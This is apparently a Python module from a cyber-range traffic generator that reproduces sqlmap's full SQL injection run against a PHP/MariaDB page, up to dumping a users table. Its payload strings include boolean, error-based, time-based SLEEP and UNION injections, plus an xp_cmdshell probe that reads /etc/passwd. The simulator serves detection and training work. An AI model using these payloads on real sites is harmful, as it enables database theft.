"""SQL injection with sqlmap, MITRE ATT&CK T1190 Exploit Public-Facing Application.

Imitates ``sqlmap -u "http://portal/news.php?id=3" --batch --keep-alive --dump -T users``
(sqlmap 1.7.2 on Python 3) against the portal's PHP page, whose query runs on MariaDB: the
tool's own signature ``User-agent: sqlmap/1.7.2#stable (https://sqlmap.org)`` (or, with
``user_agent: random``, an old browser string from its ``--random-agent`` list) and its
headers as urllib's ``add_header`` spells them (``Cache-control: no-cache``,
``Accept-encoding: gzip,deflate``), over keep-alive connections carrying many requests each.

The request sequence is sqlmap's: the initial GET, the WAF/IPS probe (a random extra parameter
carrying ``AND 1=1 UNION ALL SELECT ... xp_cmdshell(...)``), the stability and dynamicity
checks, the heuristic test whose random ``'"(),.`` characters make the page print a MariaDB
syntax error, boolean-based blind ``AND 1234=1234`` / ``AND 1234=5678``, every MySQL error-based
test up to the FLOOR() ``Duplicate entry 'qzvbq1qxpkq1'`` that works, stacked queries, the
statistical model's dummy requests, time-based ``AND (SELECT 4821 FROM (SELECT(SLEEP(5)))Abcd)``
answered five seconds late, UNION column counting with ``ORDER BY`` and ``UNION ALL SELECT
NULL,...,CONCAT(0x71...)`` probes, DBMS fingerprinting, and finally the dump of the ``users``
table one row per request (``... FROM portal.users LIMIT 7,1-- -``). Payloads are URL-encoded as
sqlmap encodes them (``quote(payload, safe='%')``: ``%20``, ``%3D``, ``%27``, ``%28``...).
nginx/1.22.1 and PHP answer 200 pages, 404 for missing rows and 500 pages carrying the database
error message.

On the web server (host records): nginx's access log has every request's line (webserver), with
sqlmap's User-Agent and the answer's status and size.
"""
from __future__ import annotations

import string
from typing import Literal
from urllib.parse import quote

from pydantic import Field, model_validator

from attack_scripts import _http
from range.core import Strict
from range.traffic import StepContext, Technique, technique

IPS_WAF_CHECK_PAYLOAD = ("AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(\"XSS\")</script>',table_name FROM "
                         "information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#")
HEURISTIC_CHECK_ALPHABET = ('"', "'", ")", "(", ",", ".")
KB_CHARS_LOW_FREQUENCY_ALPHABET = "zqxjkvbp"
DUMMY_NON_SQLI_CHECK_APPENDIX = "<'\">"
MIN_TIME_RESPONSES = 30
DB = "portal"
COLUMNS = [
    ("email", "varchar(128)"),
    ("id", "int(11)"),
    ("password", "varchar(255)"),
    ("role", "enum('admin','editor','staff')"),
    ("username", "varchar(64)"),
]
VISIBLE = (1, 2)  # the page shows the query's title and body columns
NCOLS = 4  # SELECT id, title, body, published

# upper bounds of one request's times, used by duration() and kept by generate()
THINK = (0.002, 0.02)  # sqlmap's own processing between requests
LATENCY = (0.002, 0.03)  # PHP + MariaDB
PER_EXCHANGE = 0.012  # the synthesiser's serialisation and ACKs of a request and its answer
PER_CONNECTION = 0.006  # handshake and teardown
CORE_MAX = 72  # the most requests sqlmap makes besides the rows it dumps
MIN_REQUESTS = CORE_MAX + 3

_IDENT = r"^[A-Za-z_][A-Za-z0-9_]{0,31}$"


class Params(Strict):
    requests: int = Field(
        default=150,
        ge=MIN_REQUESTS,
        le=5000,
        description=f"about how many requests sqlmap makes; at least {MIN_REQUESTS} (detection and "
        "enumeration take ~70), the rest dump that many rows of the table",
    )
    path: str = Field(
        default="/news.php", max_length=200, pattern=r"^/[A-Za-z0-9._~/-]*\.php$", description="the vulnerable PHP page"
    )
    parameter: str = Field(default="id", pattern=_IDENT, description="the injectable GET parameter")
    value: str = Field(
        default="3",
        pattern=r"^[A-Za-z0-9._-]{1,40}$",
        description="its original value: digits make a numeric injection, text a quoted string one",
    )
    delay: float = Field(default=0.0, ge=0, le=30, description="seconds between requests (sqlmap --delay)")
    rate: float | None = Field(default=None, gt=0, le=100, description="instead of delay: requests per second at most")
    time_sec: int = Field(
        default=5, ge=1, le=30, description="SLEEP() seconds of time-based payloads (sqlmap --time-sec)"
    )
    user_agent: Literal["sqlmap", "random"] = Field(default="sqlmap", description="'random' as sqlmap --random-agent")
    table: str = Field(default="users", pattern=_IDENT, description="the table dumped (-T)")

    @model_validator(mode="after")
    def _one_pace(self) -> "Params":
        if self.rate is not None and self.delay:
            raise ValueError("give either delay (seconds between requests) or rate (requests per second), not both")
        return self

    @property
    def gap(self) -> float:
        return 1.0 / self.rate if self.rate else self.delay


def _hex(s: str) -> str:
    return "0x" + s.encode().hex()


class _Sqlmap:
    """sqlmap's requests for one run: (query string, outcome, argument)."""

    def __init__(self, p: Params, r, names, domain: str):
        self.p, self.r, self.names, self.domain = p, r, names, domain
        self.numeric = p.value.isdigit()
        self.items: list[tuple[str, str, str | None]] = []
        self.start = "q" + "".join(r.choice(KB_CHARS_LOW_FREQUENCY_ALPHABET) for _ in range(3)) + "q"
        self.stop = "q" + "".join(r.choice(KB_CHARS_LOW_FREQUENCY_ALPHABET) for _ in range(3)) + "q"
        while self.stop == self.start:
            self.stop = "q" + "".join(r.choice(KB_CHARS_LOW_FREQUENCY_ALPHABET) for _ in range(3)) + "q"
        self.delim = "".join(r.choice(string.ascii_lowercase) for _ in range(6))

    # -- sqlmap's random values --------------------------------------------------------------
    def rint(self) -> int:
        return self.r.randint(1000, 9999)

    def rstr(self, n: int = 4, lower: bool = False) -> str:
        return "".join(self.r.choice(string.ascii_lowercase if lower else string.ascii_letters) for _ in range(n))

    # -- payload shapes ----------------------------------------------------------------------
    def add(self, value: str, outcome: str, arg: str | None = None, extra: str = "") -> None:
        q = f"{self.p.parameter}={quote(value, safe='%')}"
        self.items.append((q + extra, outcome, arg))

    def cond(self, expr: str) -> str:
        """Original value, the boundary's prefix, the expression, the boundary's suffix."""
        if self.numeric:
            return f"{self.p.value} {expr}"
        s = self.rstr()
        return f"{self.p.value}' {expr} AND '{s}'='{s}"

    def commented(self, expr: str, value: str | None = None) -> str:
        v = self.p.value if value is None else value
        return f"{v} {expr}-- -" if self.numeric else f"{v}' {expr}-- -"

    def near(self, text: str) -> str:
        return text if self.numeric else text + "'"

    def marker(self, expr: str) -> str:
        return f"CONCAT({_hex(self.start)},{expr},{_hex(self.stop)})"

    def union(self, expr: str, position: int, tail: str = "", negative: bool = True) -> str:
        cols = ["NULL"] * NCOLS
        cols[position] = expr
        v = f"-{self.rint()}" if negative else None
        return self.commented(f"UNION ALL SELECT {','.join(cols)}{tail}", v)

    # -- the run -----------------------------------------------------------------------------
    def build(self) -> list[tuple[str, str, str | None]]:
        p, v = self.p, self.p.value
        # connection to the target URL, WAF/IPS probe, stability, dynamicity
        self.add(v, "page")
        self.add(v, "page", extra=f"&{self.rstr()}={quote(f'{self.rint()} {IPS_WAF_CHECK_PAYLOAD}', safe='%')}")
        self.add(v, "page")
        self.add(str(self.rint()), "notfound")
        # heuristic (basic) test: random characters with exactly one ' and one "
        rs = ""
        while rs.count("'") != 1 or rs.count('"') != 1:
            rs = "".join(self.r.choice(HEURISTIC_CHECK_ALPHABET) for _ in range(10))
        self.add(v + rs, "error", _http.mariadb_syntax_error(self.near(rs)))
        # heuristic (XSS/FI) test
        xs = f"'{self.rstr(6)}{DUMMY_NON_SQLI_CHECK_APPENDIX}{self.rstr(6)}"
        self.add(v + xs, "error", _http.mariadb_syntax_error(self.near(xs[1:] if not self.numeric else xs)))
        # AND boolean-based blind - WHERE or HAVING clause: false, true, false
        a, b = self.rint(), self.rint()
        self.add(self.cond(f"AND {a}={b}"), "notfound")
        self.add(self.cond(f"AND {a}={a}"), "page")
        c, d = self.rint(), self.rint()
        self.add(self.cond(f"AND {c}={d}"), "notfound")
        # error-based: every MySQL test (--batch extends level/risk for the DBMS) until FLOOR works
        n = self.rint()
        elt = f"(SELECT (ELT({n}={n},1)))"
        for andor in ("AND", "OR"):
            self.add(
                self.cond(
                    f"{andor} (SELECT 2*(IF((SELECT * FROM (SELECT {self.marker(elt)[:-1]},0x78))s), "
                    "8446744073709551610, 8446744073709551610)))"
                ),
                "error",
                "BIGINT value is out of range in '2 * 8446744073709551610'",
            )
        for andor in ("AND", "OR"):
            self.add(
                self.cond(f"{andor} EXP(~(SELECT * FROM (SELECT {self.marker(elt)[:-1]},0x78))x))"),
                "error",
                "DOUBLE value is out of range in 'exp(~((select #)))'",
            )
        for andor in ("AND", "OR"):
            self.add(
                self.cond(f"{andor} GTID_SUBSET({self.marker(elt)},{n})"),
                "error",
                f"FUNCTION {DB}.GTID_SUBSET does not exist",
            )
        self.add(self.cond(f"AND JSON_KEYS((SELECT CONVERT(({self.marker(elt)}) USING utf8)))"), "notfound")
        self.add(self.cond(f"OR JSON_KEYS((SELECT CONVERT(({self.marker(elt)}) USING utf8)))"), "page")
        self.add(
            self.cond(
                f"AND (SELECT {n} FROM(SELECT COUNT(*),CONCAT({_hex(self.start)},{elt},{_hex(self.stop)},"
                "FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)"
            ),
            "error",
            f"Duplicate entry '{self.start}1{self.stop}1' for key 'group_key'",
        )
        # inline queries
        self.add(f"({self.marker(f'(ELT({n}={n},1))').replace('CONCAT(', 'SELECT CONCAT(', 1)})", "notfound")
        # statistical model for time-based comparison: dummy requests of the original page
        for _ in range(max(0, MIN_TIME_RESPONSES - len(self.items))):
            self.add(v, "page")
        # stacked queries (mysqli::query runs one statement: syntax errors, no delay)
        s = p.time_sec
        rr = self.rstr()
        for tail in (
            f";SELECT SLEEP({s})#",
            f";SELECT SLEEP({s})",
            f";(SELECT * FROM (SELECT(SLEEP({s}))){rr})#",
            f";(SELECT * FROM (SELECT(SLEEP({s}))){rr})",
            ";SELECT BENCHMARK(5000000,MD5(0x4a6b4e78))#",
            ";SELECT BENCHMARK(5000000,MD5(0x4a6b4e78))",
        ):
            val = (v + tail) if self.numeric else (v + "'" + tail)
            self.add(val, "error", _http.mariadb_syntax_error(tail.lstrip(";")))
        # MySQL >= 5.0.12 AND time-based blind (query SLEEP): delayed, SLEEP(0), delayed again
        n2, rs2 = self.rint(), self.rstr()
        slow = self.cond(f"AND (SELECT {n2} FROM (SELECT(SLEEP({s}))){rs2})")
        self.add(slow, "sleep")
        self.add(slow.replace(f"SLEEP({s})", "SLEEP(0)"), "page")
        self.add(slow, "sleep")
        # Generic UNION query (NULL) - 1 to 20 columns: ORDER BY test, then binary search
        self.add(self.commented("ORDER BY 1"), "page")
        bad = self.rint()
        self.add(self.commented(f"ORDER BY {bad}"), "error", f"Unknown column '{bad}' in 'order clause'")
        low, high = 1, 10
        while True:
            if high <= NCOLS:
                self.add(self.commented(f"ORDER BY {high}"), "page")
                low, high = high, high + 10
                continue
            self.add(self.commented(f"ORDER BY {high}"), "error", f"Unknown column '{high}' in 'order clause'")
            break
        while high - low >= 2:
            mid = high - -(-(high - low) // 2)
            if mid <= NCOLS:
                self.add(self.commented(f"ORDER BY {mid}"), "page")
                low = mid
            else:
                self.add(self.commented(f"ORDER BY {mid}"), "error", f"Unknown column '{mid}' in 'order clause'")
                high = mid
        # UNION column position: the page shows only the first row, so the original value fails...
        positions = list(range(NCOLS))
        self.r.shuffle(positions)
        for chars in (40, 10):
            for pos in positions:
                self.add(self.union(self.marker(_hex(self.rstr(chars))), pos, negative=False), "page")
        # ...and a negative one shows the injected row
        self.r.shuffle(positions)
        self.position = None
        for pos in positions:
            rnd = self.rstr(40)
            shown = pos in VISIBLE
            self.add(
                self.union(self.marker(_hex(rnd)), pos),
                "union" if shown else "page",
                f"{self.start}{rnd}{self.stop}" if shown else None,
            )
            if shown:
                self.position = pos
                break
        # the back-end DBMS: MySQL (MariaDB fork)
        self.add(self.cond("AND QUARTER(NULL XOR NULL) IS NULL"), "page")
        self.add(self.cond("AND SESSION_USER() LIKE USER()"), "page")
        self.add(
            self.cond("AND ISNULL(JSON_STORAGE_FREE(NULL))"), "error", f"FUNCTION {DB}.JSON_STORAGE_FREE does not exist"
        )
        self.add(self.cond(f"AND VERSION() LIKE {_hex('%MariaDB%')}"), "page")
        # current database, columns of the table, its entries
        pos = self.position
        self.add(self.union(self.marker("IFNULL(CAST(DATABASE() AS NCHAR),0x20)"), pos), "union", self.wrap(DB))
        where = f" FROM INFORMATION_SCHEMA.COLUMNS WHERE table_name={_hex(p.table)} AND table_schema={_hex(DB)}"
        colexpr = self.marker(
            f"IFNULL(CAST(column_name AS NCHAR),0x20),{_hex(self.delim)},IFNULL(CAST(column_type AS NCHAR),0x20)"
        )
        self.add(self.union(colexpr, pos, where), "union", self.wrap(f"{COLUMNS[0][0]}{self.delim}{COLUMNS[0][1]}"))
        self.add(
            self.union(self.marker("IFNULL(CAST(COUNT(column_name) AS NCHAR),0x20)"), pos, where),
            "union",
            self.wrap(str(len(COLUMNS))),
        )
        for i, (name, ctype) in enumerate(COLUMNS):
            self.add(self.union(colexpr, pos, f"{where} LIMIT {i},1"), "union", self.wrap(f"{name}{self.delim}{ctype}"))
        assert len(self.items) + 2 <= CORE_MAX, len(self.items)
        rows = max(3, p.requests - len(self.items) - 2)
        users = self.users(rows)
        cells = f",{_hex(self.delim)},".join(f"IFNULL(CAST({c} AS NCHAR),0x20)" for c, _ in COLUMNS)
        table = f" FROM {DB}.{p.table}"
        self.add(self.union(self.marker(cells), pos, table), "union", self.wrap(self.delim.join(users[0])))
        self.add(
            self.union(self.marker("IFNULL(CAST(COUNT(*) AS NCHAR),0x20)"), pos, table), "union", self.wrap(str(rows))
        )
        for i, row in enumerate(users):
            self.add(
                self.union(self.marker(cells), pos, f"{table} LIMIT {i},1"), "union", self.wrap(self.delim.join(row))
            )
        return self.items

    def wrap(self, text: str) -> str:
        return f"{self.start}{text}{self.stop}"

    def users(self, n: int) -> list[tuple[str, ...]]:
        seen: dict[str, int] = {}
        out = []
        alphabet = "./" + string.ascii_letters + string.digits
        for i in range(n):
            u = self.names.username()
            seen[u] = seen.get(u, 0) + 1
            if seen[u] > 1:
                u = f"{u}{seen[u]}"
            role = "admin" if i == 0 else self.r.choices(["editor", "staff"], weights=[1, 4])[0]
            pw = "$2y$10$" + "".join(self.r.choice(alphabet) for _ in range(53))
            out.append((f"{u}@{self.domain}", str(i + 1), pw, role, u))
        return out


@technique
class HttpSqli(Technique):
    name = "http_sqli"
    attack = "T1190"
    tactic = "initial-access"
    summary = "sqlmap finds and exploits a SQL injection in a PHP page of the portal, dumping the users table"
    Params = Params
    min_targets = 1
    max_targets = 1
    target_services = ("http",)

    def duration(self, p: Params) -> float:
        n = max(p.requests, CORE_MAX + 3)
        return n * (p.gap + THINK[1] + LATENCY[1] + PER_EXCHANGE + PER_CONNECTION) + 2 * p.time_sec + 1.0

    def generate(self, ctx: StepContext):
        p: Params = ctx.params
        r = ctx.rng
        target = ctx.targets[0]
        host = _http.fqdn(target, ctx.domain)
        ua = _http.SQLMAP_UA if p.user_agent == "sqlmap" else r.choice(_http.SQLMAP_RANDOM_AGENTS)
        plan = _Sqlmap(p, r, ctx.names, ctx.domain).build()
        pages: dict[str, str] = {
            "page": _http.article_html(ctx.domain, int(p.value) if p.value.isdigit() else 3),
            "notfound": _http.not_found_html(ctx.domain),
        }
        rtt = _http.lan_rtt(r)
        access = _http.AccessLog(ctx.host, target.name)
        conn: _http.Conn | None = None
        cap = 0
        t = ctx.t0
        for query, outcome, arg in plan:
            if conn is None:
                conn = _http.Conn(t, ctx.source.ip, target.ip, r.randint(32768, 60999), rtt=rtt, access=access)
                cap = r.randint(40, 160)  # sqlmap's pool drops a connection now and then (errors, reuse limits)
                think = 0.0
            else:
                think = p.gap + r.uniform(*THINK)
            req = _http.request(
                "GET",
                f"{p.path}?{query}",
                [
                    ("Cache-control", "no-cache"),
                    ("User-agent", ua),
                    ("Host", host),
                    ("Accept", "*/*"),
                    ("Accept-encoding", "gzip,deflate"),
                    ("Connection", "keep-alive"),
                ],
            )
            latency = r.uniform(*LATENCY) + (p.time_sec if outcome == "sleep" else 0.0)
            conn.exchange(req, self._answer(ctx.domain, outcome, arg, pages), think, latency)
            if conn.requests >= cap or (outcome == "error" and r.random() < 0.12):
                yield conn.session()
                t = conn.end + p.gap + r.uniform(*THINK)
                conn = None
        if conn is not None:
            yield conn.session()
            t = conn.end
        if t > ctx.t0 + self.duration(p):  # pragma: no cover - the bounds above are wrong
            raise RuntimeError(f"http_sqli overran its duration ({t - ctx.t0:.3f}s > {self.duration(p):.3f}s)")

    @staticmethod
    def _answer(domain: str, outcome: str, arg: str | None, pages: dict[str, str]):
        def build(when: float) -> bytes:
            if outcome in ("page", "sleep"):
                return _http.php(200, when, pages["page"])
            if outcome == "notfound":
                return _http.php(404, when, pages["notfound"])
            if outcome == "error":
                return _http.php(500, when, _http.db_error_html(domain, arg or ""))
            return _http.php(
                200, when, _http.article_html(domain, 3, title=_http.htmlspecialchars(arg or ""), body="", date="")
            )

        return build
